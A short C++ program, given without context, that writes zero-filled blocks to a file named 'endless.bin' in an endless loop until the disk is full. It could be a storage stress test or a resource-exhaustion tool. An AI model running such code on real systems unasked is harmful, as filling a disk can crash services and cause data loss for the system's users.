#include <cstdio>
#include <cstdlib>

int main() {
    static char block[65536];
    std::FILE* file = std::fopen("endless.bin", "wb");
    for (;;)
        if (!file || std::fwrite(block, 1, sizeof block, file) != sizeof block) std::exit(1);
}
